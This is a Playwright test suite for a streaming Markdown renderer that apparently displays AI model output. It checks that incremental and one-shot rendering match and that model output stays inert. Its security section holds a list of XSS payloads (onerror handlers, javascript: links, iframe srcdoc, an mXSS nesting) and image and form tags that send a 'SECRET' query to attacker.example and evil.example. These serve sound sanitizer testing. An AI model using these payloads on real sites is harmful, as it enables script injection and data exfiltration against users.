// The renderer in real Chromium: incremental output equals a one-shot render, code blocks work, and no payload in
// model output runs, fetches or navigates (docs/threat-model.md, W1, W2, W6).
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Browser, Page } from 'playwright-core';
import { CORPUS } from './corpus';
import { launch, rendererPage } from './browserHarness';

const WITHOUT_DEFINITIONS = CORPUS.filter((text) => !text.includes(']:'));

let browser: Browser;
let page: Page;

before(async () => {
  browser = await launch();
  page = await rendererPage(browser);
});
after(async () => {
  await browser?.close();
});

/** Streams `deltas` into #a and renders their concatenation one-shot into #b; returns both innerHTMLs. */
function streamAndOnce(deltas: readonly string[]): Promise<{ streamed: string; once: string }> {
  return page.evaluate((deltas) => {
    const a = window.fresh('a');
    const b = window.fresh('b');
    const r = new window.md.StreamingMarkdown(a, window.md.hooks);
    for (const d of deltas) r.append(d);
    r.finish();
    const once = window.md.StreamingMarkdown.renderOnce(b, deltas.join(''), window.md.hooks);
    r.dispose();
    once.dispose();
    return { streamed: a.innerHTML, once: b.innerHTML };
  }, deltas);
}

function split(text: string, cuts: readonly number[]): string[] {
  const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((x, y) => x - y);
  const parts: string[] = [];
  let from = 0;
  for (const p of points) {
    parts.push(text.slice(from, p));
    from = p;
  }
  parts.push(text.slice(from));
  return parts.filter((p) => p.length > 0);
}

describe('StreamingMarkdown: incremental equals one-shot', () => {
  it('one character at a time, for every corpus document', async () => {
    for (const text of CORPUS) {
      const { streamed, once } = await streamAndOnce(Array.from(text));
      assert.equal(streamed, once, `differs for ${JSON.stringify(text.slice(0, 60))}`);
      assert.ok(once.length > 0);
    }
  });

  it('for random splits of the corpus (property)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 0, max: CORPUS.length - 1 }),
        fc.array(fc.nat(), { maxLength: 30 }),
        async (index, cuts) => {
          const text = CORPUS[index]!;
          const { streamed, once } = await streamAndOnce(split(text, cuts));
          assert.equal(streamed, once);
        },
      ),
      { numRuns: 120 },
    );
  });

  it('for the whole corpus as one reply in 20-character deltas', async () => {
    const text = CORPUS.join('\n\n');
    const deltas = text.match(/[\s\S]{1,20}/g)!;
    const { streamed, once } = await streamAndOnce(deltas);
    assert.equal(streamed, once);
  });

  it('shows, after every delta, what a one-shot render of the text so far shows (highlighting aside)', async () => {
    const mismatches = await page.evaluate(
      (docs) => {
        // Text plus element structure, ignoring highlight.js spans (the open tail is not highlighted yet).
        const signature = (root: Element): string => {
          let out = '';
          const walk = (node: Node): void => {
            for (let child = node.firstChild; child; child = child.nextSibling) {
              if (child.nodeType === Node.TEXT_NODE) out += (child as Text).data;
              else if (child instanceof Element) {
                const hl = child.tagName === 'SPAN' && /\bhljs-/.test(child.className);
                if (!hl) out += `<${child.tagName}${child.getAttribute('href') ?? ''}>`;
                walk(child);
                if (!hl) out += `</${child.tagName}>`;
              }
            }
          };
          walk(root);
          return out.replace(/<\/?DIV>/g, '');
        };
        const found: string[] = [];
        for (const step of [3, 17, 40])
          for (const text of docs) {
            const a = window.fresh('a');
            const r = new window.md.StreamingMarkdown(a, window.md.hooks);
            let sent = '';
            for (let i = 0; i < text.length; i += step) {
              const delta = text.slice(i, i + step);
              r.append(delta);
              sent += delta;
              const b = window.fresh('b');
              window.md.StreamingMarkdown.renderOnce(b, sent, window.md.hooks).dispose();
              if (signature(a) !== signature(b)) {
                found.push(`${JSON.stringify(sent)}\n  streamed ${signature(a)}\n  one-shot ${signature(b)}`);
                break;
              }
            }
            r.dispose();
          }
        return found;
        // A link definition still in the open tail reaches earlier blocks only once it is committed (then they are
        // rebuilt), so documents with definitions differ for a moment by design; their final DOM is checked above.
      },
      [...WITHOUT_DEFINITIONS, WITHOUT_DEFINITIONS.join('\n\n')],
    );
    assert.deepEqual(mismatches, []);
  });

  it('keeps \\r\\n split across deltas as one newline', async () => {
    const { streamed, once } = await streamAndOnce(['# A\r', '\nline one\r', '\r\n', '- x\r\n- y\r']);
    assert.equal(streamed, once);
    assert.match(streamed, /<h1>A<\/h1>/);
  });

  it('continues after finish(), as a continued reply does, and still equals one-shot', async () => {
    const result = await page.evaluate(() => {
      const a = window.fresh('a');
      const b = window.fresh('b');
      const r = new window.md.StreamingMarkdown(a, window.md.hooks);
      r.append('Stopped in the mid');
      r.finish();
      const stopped = a.querySelectorAll('p').length;
      r.append('dle of a sentence.\n\n```ts\nconst a = 1;\n```\n');
      r.finish();
      window.md.StreamingMarkdown.renderOnce(b, r.text, window.md.hooks);
      return { stopped, streamed: a.innerHTML, once: b.innerHTML, text: r.text };
    });
    assert.equal(result.stopped, 1);
    assert.equal(result.text, 'Stopped in the middle of a sentence.\n\n```ts\nconst a = 1;\n```\n');
    assert.equal(result.streamed, result.once);
    assert.match(result.streamed, /Stopped in the middle of a sentence\./);
  });

  it('reset() empties the container and starts over', async () => {
    const html = await page.evaluate(() => {
      const a = window.fresh('a');
      const r = new window.md.StreamingMarkdown(a, window.md.hooks);
      r.append('# Old\n\nold text\n\nmore');
      r.reset();
      const empty = a.childNodes.length;
      r.append('new');
      r.finish();
      return { empty, html: a.textContent, text: r.text };
    });
    assert.equal(html.empty, 0);
    assert.equal(html.text, 'new');
    assert.equal(html.html?.trim(), 'new');
  });

  it('commits finished blocks and keeps the open tail small while streaming', async () => {
    const stats = await page.evaluate(() => {
      const a = window.fresh('a');
      const r = new window.md.StreamingMarkdown(a, window.md.hooks);
      const para = 'Some prose with **bold** and `code` that goes on for a while. ';
      let text = '';
      for (let i = 0; i < 200; i++) text += `## Section ${i}\n\n${para.repeat(3)}\n\n- a\n- b\n\n`;
      const first = a.querySelector('h2');
      for (let i = 0; i < text.length; i += 20) r.append(text.slice(i, i + 20));
      const stillSame = a.querySelector('h2') === first || first === null;
      const chunks = a.querySelectorAll(':scope > .md-chunk').length;
      const openNodes = Array.from(a.childNodes).filter(
        (n) => !(n instanceof HTMLElement && n.classList.contains('md-chunk')),
      ).length;
      const h2 = a.querySelector('h2');
      r.append('tail text');
      return { stillSame, chunks, openNodes, h2Kept: a.querySelector('h2') === h2 };
    });
    assert.ok(stats.stillSame);
    assert.ok(stats.h2Kept, 'committed blocks are not re-rendered by later deltas');
    assert.ok(stats.chunks > 10, `committed blocks live in chunks (${stats.chunks})`);
    assert.ok(stats.openNodes < 10, `the open tail holds few nodes (${stats.openNodes})`);
  });
});

describe('StreamingMarkdown: code blocks', () => {
  it('highlights committed code, shows the language and has Copy / Insert at Cursor / New File buttons', async () => {
    await page.evaluate(() => {
      window.md.calls.length = 0;
      const a = window.fresh('a');
      const r = new window.md.StreamingMarkdown(a, window.md.hooks);
      const text = 'Code:\n\n```typescript\nconst answer: number = 42;\n```\n\nDone.\n';
      for (const ch of text) r.append(ch);
      r.finish();
    });
    const block = page.locator('#a .md-code-block');
    assert.equal(await block.count(), 1);
    assert.equal(await block.locator('.md-code-lang').textContent(), 'typescript');
    assert.ok((await block.locator('code.hljs .hljs-keyword').count()) > 0, 'keywords are highlighted');
    await page.locator('#a').getByRole('button', { name: 'Copy', exact: true }).click();
    await page.locator('#a').getByRole('button', { name: 'Insert at Cursor', exact: true }).click();
    await page.locator('#a').getByRole('button', { name: 'New File', exact: true }).click();
    const calls = await page.evaluate(() => window.md.calls);
    assert.deepEqual(calls, [
      { type: 'code', action: 'copy', code: 'const answer: number = 42;', language: 'typescript' },
      { type: 'code', action: 'insert', code: 'const answer: number = 42;', language: 'typescript' },
      { type: 'code', action: 'newFile', code: 'const answer: number = 42;', language: 'typescript' },
    ]);
  });

  it('streams an open fence as plain text and highlights it once finished', async () => {
    const states = await page.evaluate(() => {
      const a = window.fresh('a');
      const r = new window.md.StreamingMarkdown(a, window.md.hooks);
      r.append('```python\ndef f(x):\n    return x\n');
      const open = {
        blocks: a.querySelectorAll('.md-code-block').length,
        spans: a.querySelectorAll('code span').length,
        text: a.querySelector('pre code')?.textContent,
      };
      r.finish();
      return {
        open,
        finalSpans: a.querySelectorAll('code .hljs-keyword').length,
        buttons: a.querySelectorAll('button').length,
      };
    });
    assert.equal(states.open.blocks, 1);
    assert.equal(states.open.spans, 0, 'no highlighting while the fence is open');
    assert.equal(states.open.text, 'def f(x):\n    return x');
    assert.ok(states.finalSpans > 0);
    assert.equal(states.buttons, 3);
  });

  it('renders unknown or missing languages as plain escaped text', async () => {
    const html = await page.evaluate(() => {
      const a = window.fresh('a');
      window.md.StreamingMarkdown.renderOnce(
        a,
        '```nosuchlang\n<b>not bold</b>\n```\n\n```\nplain\n```',
        window.md.hooks,
      );
      return {
        html: a.innerHTML,
        bold: a.querySelectorAll('b').length,
        langs: Array.from(a.querySelectorAll('.md-code-lang')).map((e) => e.textContent),
      };
    });
    assert.equal(html.bold, 0);
    assert.match(html.html, /&lt;b&gt;not bold&lt;\/b&gt;/);
    assert.deepEqual(html.langs, ['nosuchlang', 'text']);
  });
});

const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '<svg onload="window.__pwned=3"><circle r=1 /></svg>',
  '<iframe src="javascript:parent.__pwned=4"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
  '[click me](javascript:window.__pwned=6)',
  '[data link](data:text/html,<script>alert(1)</script>)',
  '<a href="javascript:window.__pwned=7">raw anchor</a>',
  '<details open ontoggle="window.__pwned=8">x</details>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/"><button>go</button></form>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
  '![x](javascript:window.__pwned=9)',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=10">',
  '`<img src=x onerror="window.__pwned=11">` in code, and in a fence:\n\n```html\n<img src=x onerror="window.__pwned=12">\n```',
];

describe('StreamingMarkdown: model output is inert (W1, W2, W6)', () => {
  it('runs no script and leaves no handler, script, style, iframe, svg or form, streamed or one-shot', async () => {
    const text = PAYLOADS.join('\n\n');
    const result = await page.evaluate(async (text) => {
      const a = window.fresh('a');
      const b = window.fresh('b');
      const r = new window.md.StreamingMarkdown(a, window.md.hooks);
      const seen = new Set<string>();
      const scan = (root: Element): void => {
        for (const el of Array.from(root.querySelectorAll('*'))) {
          for (const attr of Array.from(el.attributes)) {
            if (/^on/i.test(attr.name) || attr.name === 'style' || attr.name === 'srcdoc')
              seen.add(`${el.tagName}[${attr.name}]`);
            if (
              /^\s*(javascript|vbscript|data):/i.test(attr.value) &&
              !(el.tagName === 'IMG' && attr.name === 'src')
            )
              seen.add(`${el.tagName}[${attr.name}=${attr.value.slice(0, 20)}]`);
          }
          if (/^(SCRIPT|STYLE|IFRAME|SVG|FORM|OBJECT|EMBED|MATH|DETAILS)$/i.test(el.tagName))
            seen.add(el.tagName);
        }
      };
      for (let i = 0; i < text.length; i += 7) {
        r.append(text.slice(i, i + 7));
        scan(a);
      }
      r.finish();
      scan(a);
      window.md.StreamingMarkdown.renderOnce(b, text, window.md.hooks);
      scan(b);
      await new Promise((resolve) => setTimeout(resolve, 300)); // give any handler a chance to fire
      return {
        pwned: window.__pwned ?? null,
        seen: [...seen],
        text: a.textContent ?? '',
        imgs: a.querySelectorAll('img').length,
      };
    }, text);
    assert.equal(result.pwned, null, 'no payload ran');
    // Control: this page has no CSP, so the same payload inserted as raw HTML does run.
    const control = await page.evaluate(async () => {
      const probe = document.createElement('div');
      probe.innerHTML = '<img src=x onerror="window.__pwned=99">';
      await new Promise((resolve) => setTimeout(resolve, 300));
      const value = window.__pwned ?? null;
      delete window.__pwned;
      return value;
    });
    assert.equal(control, 99, 'the control payload runs, so the check above could fail');
    assert.deepEqual(result.seen, []);
    assert.equal(result.imgs, 0);
    // Raw HTML is shown as the text it is.
    assert.ok(result.text.includes('<img src=x onerror="window.__pwned=1">'));
    assert.ok(result.text.includes('<script>window.__pwned=2</script>'));
  });

  it('links never navigate; only http(s) links reach hooks.onLink', async () => {
    await page.evaluate(() => {
      window.md.calls.length = 0;
      const a = window.fresh('a');
      window.md.StreamingMarkdown.renderOnce(
        a,
        '[safe](https://example.com/docs) [bad](javascript:window.__pwned=20) [mail](mailto:x@example.com) <https://example.org/auto>',
        window.md.hooks,
      );
    });
    const url = page.url();
    for (const name of ['safe', 'bad', 'mail', 'https://example.org/auto']) {
      await page.locator('#a').getByText(name, { exact: true }).click();
    }
    assert.equal(page.url(), url, 'the page did not navigate');
    assert.deepEqual(await page.evaluate(() => window.md.calls), [
      { type: 'link', href: 'https://example.com/docs' },
      { type: 'link', href: 'https://example.org/auto' },
    ]);
    assert.equal(await page.evaluate(() => window.__pwned ?? null), null);
    assert.equal(await page.locator('#a a[href^="javascript"], #a a[href^="mailto"]').count(), 0);
  });

  it('fetches nothing for remote images, markdown or HTML, and renders data: images', async () => {
    const p = await browser.newPage();
    const requests: string[] = [];
    await p.route('**/*', (route) => {
      requests.push(route.request().url());
      return route.abort();
    });
    p.on('request', (r) => requests.push(r.url()));
    await p.setContent('<!doctype html><div id="a"></div><div id="b"></div>');
    const { rendererScript } = await import('./browserHarness');
    await p.addScriptTag({ content: await rendererScript() });
    requests.length = 0;
    const png =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
    const text = [
      '![tracking pixel](https://attacker.example/collect?q=SECRET)',
      '![relative](/local.png) ![proto-relative](//attacker.example/p.png "title")',
      '<img src="https://attacker.example/html-img.png">',
      '<img srcset="https://attacker.example/s.png 1x">',
      '<video poster="https://attacker.example/v.png"></video>',
      `![inline](${png})`,
      '[![linked image](https://attacker.example/linked.png)](https://example.com)',
    ].join('\n\n');
    const result = await p.evaluate(
      async ({ text }) => {
        const a = window.fresh('a');
        const r = new window.md.StreamingMarkdown(a, window.md.hooks);
        for (let i = 0; i < text.length; i += 5) r.append(text.slice(i, i + 5));
        r.finish();
        window.md.StreamingMarkdown.renderOnce(window.fresh('b'), text, window.md.hooks);
        await new Promise((resolve) => setTimeout(resolve, 500));
        return {
          placeholders: Array.from(a.querySelectorAll('.md-image-placeholder')).map((e) => e.textContent),
          imgs: Array.from(document.querySelectorAll('img')).map((i) => i.getAttribute('src')?.slice(0, 22)),
          loaded: Array.from(a.querySelectorAll('img')).map((i) => i.complete && i.naturalWidth),
        };
      },
      { text },
    );
    const fromRenderer = [...requests];
    // Control: the interceptor does see an image request made outside the renderer.
    await p.evaluate(() => {
      new Image().src = 'https://control.example/seen.png';
    });
    await p.waitForTimeout(300);
    await p.close();
    assert.deepEqual(fromRenderer, [], 'no request left the page');
    assert.ok(requests.includes('https://control.example/seen.png'), 'the interceptor works');
    assert.deepEqual(result.imgs, ['data:image/png;base64,', 'data:image/png;base64,']);
    assert.deepEqual(result.loaded, [1]);
    assert.ok(
      result.placeholders.some(
        (t) => t?.includes('tracking pixel') && t.includes('https://attacker.example/collect?q=SECRET'),
      ),
    );
    assert.ok(result.placeholders.some((t) => t?.includes('proto-relative')));
    assert.equal(result.placeholders.length, 4);
  });

  it('the sanitizer (used for highlighter output) strips every payload on its own', async () => {
    const requests: string[] = [];
    const onRequest = (r: { url(): string }): void => {
      requests.push(r.url());
    };
    page.on('request', onRequest);
    const result = await page.evaluate(async (payloads) => {
      // The payloads go last: the unclosed <style> of the mXSS one swallows whatever follows it.
      const root = window.md.sanitizeHtml(
        '<img src="https://attacker.example/x.png"><img src="data:image/png;base64,AAAA">' +
          '<a href="https://ok.example/" target="_blank" onclick="x()">ok</a><span class="hljs-keyword" style="x">k</span>' +
          payloads.join(''),
      );
      const live = window.fresh('a');
      live.append(...Array.from(root.childNodes));
      await new Promise((resolve) => setTimeout(resolve, 300));
      const bad = Array.from(live.querySelectorAll('*')).flatMap((el) =>
        Array.from(el.attributes)
          .filter((a) => /^on|^style$|^target$|^srcset$/i.test(a.name) || /^\s*javascript:/i.test(a.value))
          .map((a) => `${el.tagName}[${a.name}]`),
      );
      return {
        bad,
        pwned: window.__pwned ?? null,
        tags: [...new Set(Array.from(live.querySelectorAll('*')).map((e) => e.tagName))].sort(),
        srcs: Array.from(live.querySelectorAll('img')).map((i) => i.getAttribute('src')),
        link: live.querySelector('a[href="https://ok.example/"]') !== null,
        span: live.querySelector('span.hljs-keyword')?.textContent,
      };
    }, PAYLOADS);
    page.off('request', onRequest);
    assert.deepEqual(requests, [], 'the sanitized DOM fetched nothing');
    assert.deepEqual(result.bad, []);
    assert.equal(result.pwned, null);
    for (const tag of [
      'SCRIPT',
      'STYLE',
      'IFRAME',
      'SVG',
      'FORM',
      'OBJECT',
      'EMBED',
      'MATH',
      'DETAILS',
      'VIDEO',
    ]) {
      assert.ok(!result.tags.includes(tag), `${tag} survived`);
    }
    assert.deepEqual(
      result.srcs.filter((s) => s !== null),
      ['data:image/png;base64,AAAA'],
    );
    assert.ok(result.link);
    assert.equal(result.span, 'k');
  });

  it('uses no inline styles anywhere (the webview CSP forbids them)', async () => {
    const count = await page.evaluate((text) => {
      const a = window.fresh('a');
      const r = new window.md.StreamingMarkdown(a, window.md.hooks);
      for (let i = 0; i < text.length; i += 11) r.append(text.slice(i, i + 11));
      const during = a.querySelectorAll('[style]').length;
      r.finish();
      return during + a.querySelectorAll('[style]').length;
    }, CORPUS.join('\n\n'));
    assert.equal(count, 0);
  });
});
